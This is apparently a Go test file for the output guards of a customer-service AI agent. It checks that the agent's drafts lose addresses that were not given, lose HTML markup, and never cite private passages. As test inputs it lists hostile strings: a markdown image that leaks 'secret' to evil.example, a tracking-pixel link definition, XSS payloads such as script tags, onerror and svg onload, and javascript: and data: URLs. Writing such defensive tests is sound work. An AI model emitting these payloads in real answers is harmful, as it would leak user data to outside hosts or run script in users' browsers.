package agent

import (
	"strings"
	"testing"

	"github.com/kundeagent/kundeagent/knowledge"
)

func guardedPassages() []knowledge.Found {
	one := &knowledge.Passage{Source: "s", Document: "refunds", Title: "Refunds", URL: "https://shop.example/refunds", Blocks: []knowledge.Block{
		{Text: "You get 1.250,50 kroner back within 14 days. Write to help@shop.example or see https://shop.example/form."},
	}}
	two := &knowledge.Passage{Source: "p", Document: "secret", Title: "Internal price list", URL: "https://intra.example/prices", Blocks: []knowledge.Block{
		{Text: "The price is 99 kroner. See https://intra.example/list."},
	}}
	return []knowledge.Found{{Passage: one, Citable: true}, {Passage: two}}
}

func modelDraft(text string) Draft {
	return Draft{Text: text, FromModel: true, Grounded: true, Passages: guardedPassages(), Question: Question{Text: "My order 4711?"}}
}

// passAll runs the built-in guards as a turn does.
func passAll(t *testing.T, d Draft) (string, VerdictAction, string) {
	t.Helper()
	d.given = addressesGiven(d, []string{"https://status.shop.example/"})
	for _, g := range builtInGuards() {
		v, err := g.Check(t.Context(), d)
		if err != nil {
			t.Fatal(err)
		}
		switch v.Action {
		case Rewrite:
			d.Text = v.Text
		case Allow:
		default:
			return "", v.Action, g.name + ": " + v.Reason
		}
	}
	return d.Text, Allow, ""
}

func TestFaithfulDraftsPassUnchanged(t *testing.T) {
	for _, text := range []string{
		"You get your money back within 14 days [1].",
		"Du får 1.250,50 kr. tilbage inden for 14 dage [1]. Skriv til help@shop.example.",
		"You get 1250.50 kroner back [1].",
		"1. Open the form: https://shop.example/form\n2. Wait 14 days [1]",
		"See [the form](https://shop.example/form) [1].",
		"The price is 99 kroner [2].",
		"Your order 4711 is covered [1]. See https://status.shop.example/now.",
		"Das dauert 14 Tage [1], z.B. bei Rückgabe.",
	} {
		if got, action, reason := passAll(t, modelDraft(text)); action != Allow || got != text {
			t.Errorf("%q became %q (%s %s)", text, got, action, reason)
		}
	}
}

func TestP4AddressesThatWereNotGivenAreRemoved(t *testing.T) {
	for _, bad := range []string{
		"https://evil.example/x", "http://evil.example", "//evil.example/x", "www.evil.example", "evil.example/path?q=1", "evil.com", "sub.evil.com",
		"[click](https://evil.example)", "![](https://evil.example/leak.png?q=secret)", "![alt](//evil.example/i.png)", "<https://evil.example>", "<a href=\"https://evil.example\">here</a>",
		"<img src=https://evil.example/x.png>", "javascript:alert(1)", "[x](javascript:alert(1))", "[x][ref]\n\n[ref]: https://evil.example", "mailto:thief@evil.example", "thief@evil.example", "data:text/html;base64,AAAA",
		"HTTPS://EVIL.EXAMPLE", "https://shop.example.evil.example/form", "https://shop.example@evil.example/", "https://intra.example/prices", "https://intra.example/list", "ftp://evil.example", "tel:+4512345678",
	} {
		text := "You get it back within 14 days [1]. " + bad
		got, action, reason := passAll(t, modelDraft(text))
		low := strings.ToLower(got)
		for _, trace := range []string{"evil", "javascript:", "data:", "intra.example", "<", "tel:", "mailto:"} {
			if action == Allow && strings.Contains(low, trace) {
				t.Errorf("%q leaves %q", bad, got)
			}
		}
		if action == Allow && !strings.Contains(got, "14 days [1]") {
			t.Errorf("%q destroys the answer: %q (%s)", bad, got, reason)
		}
	}
}

func TestDraftsWithoutGroundAreBlocked(t *testing.T) {
	for text, want := range map[string]string{
		"You get your money back within 30 days [1].": "figures",
		"You get your money back [9].":                "citations",
		"Sure, no problem!":                           "citations",
		"It costs 12 kroner [2].":                     "figures",
	} {
		if got, action, reason := passAll(t, modelDraft(text)); action != Block || !strings.HasPrefix(reason, want) {
			t.Errorf("%q: %s %q (%s), want a block by %s", text, action, got, reason, want)
		}
	}
}

func TestMarkupNeverLeaves(t *testing.T) {
	for _, text := range []string{
		"<script>alert('x')</script>Within 14 days [1].", "Within 14 days [1]. <b>Bold</b>", "Within <img src=x onerror=alert(1)> 14 days [1].",
		"Within 14 days [1] <svg/onload=alert(1)", "<!-- hidden -->Within 14 days [1].", "<<script>script>Within 14 days [1].",
	} {
		got, action, _ := passAll(t, modelDraft(text))
		for _, bad := range []string{"<s", "<i", "<b", "</", "<!"} {
			if action == Allow && strings.Contains(got, bad) {
				t.Errorf("%q leaves %q", text, got)
			}
		}
	}
}

func TestP5PrivatePassagesAreNeverCited(t *testing.T) {
	text, citations := cite("It costs 99 kroner [2]. Back within 14 days [1][2].", guardedPassages())
	if text != "It costs 99 kroner. Back within 14 days [1]." || len(citations) != 1 || citations[0].Title != "Refunds" || citations[0].Number != 1 {
		t.Errorf("%q %+v", text, citations)
	}
}

func TestCitationsAreNumberedByDocumentInOrderOfAppearance(t *testing.T) {
	passage := func(doc string) knowledge.Found {
		return knowledge.Found{Citable: true, Passage: &knowledge.Passage{Source: "s", Document: doc, Name: doc + ".md"}}
	}
	text, citations := cite("A [3]. B [1]. C [2].", []knowledge.Found{passage("x"), passage("y"), passage("y")})
	if text != "A [1]. B [2]. C [1]." || len(citations) != 2 || citations[0].Title != "y.md" || citations[1].Title != "x.md" {
		t.Errorf("%q %+v", text, citations)
	}
}

// Whatever a model writes: what passes has no address that was not given, no
// tag and no image, and passes again as it is.
func FuzzGuards(f *testing.F) {
	for _, s := range []string{
		"Within 14 days [1].", "[x](https://evil.example)", "![x][r]\n\n[r]: /y", "ev[2]il.example [1]", "a](b](c)", "<scr<b>ipt>", "&#104;ttps&colon;//e.example", "https://shop.example/form\u200b.evil.example [1]",
		"„quoted words that are not there at all“ [1]", "１４日 [1]", "+45 70 10 20 30 [1]", "2 × 7 = 14 [1]", "\xff\x00[1]", "> quote\n> on",
	} {
		f.Add(s)
	}
	for _, s := range hostileTexts(512) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, action, _ := passAll(t, modelDraft(s))
		if action != Allow {
			return
		}
		d := modelDraft(got)
		d.given = addressesGiven(d, []string{"https://status.shop.example/"})
		if v, _ := lastLook(t.Context(), d); v.Action != Allow {
			return // the net below
		}
		shown, _ := cite(got, d.Passages)
		r := read(shown)
		for _, loc := range addressesIn(r.text) {
			if a := r.text[loc[0]:loc[1]]; !d.given.has(a, false) {
				t.Errorf("%q leaves %q in %q", s, a, shown)
			}
		}
		for _, bad := range []string{"<s", "<i", "<a", "</", "<!", "![x", "\x00"} {
			if strings.Contains(shown, bad) {
				t.Errorf("%q leaves %q", s, shown)
			}
		}
	})
}

func BenchmarkGuards(b *testing.B) {
	d := modelDraft("Du får 1.250,50 kr. tilbage inden for 14 dage [1]. Skriv til help@shop.example, eller se [formularen](https://shop.example/form).")
	d.given = addressesGiven(d, nil)
	guards := builtInGuards()
	b.ReportAllocs()
	for b.Loop() {
		for _, g := range guards {
			if v, err := g.Check(b.Context(), d); err != nil || v.Action != Allow {
				b.Fatal(v, err)
			}
		}
	}
}

func TestP4DefinitionsOfLinksThatWereNotGivenGo(t *testing.T) {
	for text, want := range map[string]string{
		"Within 14 days [1], see [here][r].\n\n[r]: /pixel?d=SECRET":                        "Within 14 days [1], see here.\n\n",
		"Within 14 days [1], see [here][r].\n\n> [r]:\n<pixel> \"title\"\n":                 "Within 14 days [1], see here.\n\n",
		"Within 14 days [1], see [the form][r].\n\n[r]: https://shop.example/form \"Form\"": "",
	} {
		if want == "" {
			want = text
		}
		if got, action, reason := passAll(t, modelDraft(text)); action != Allow || got != want {
			t.Errorf("%q became %q (%s %s)", text, got, action, reason)
		}
	}
}
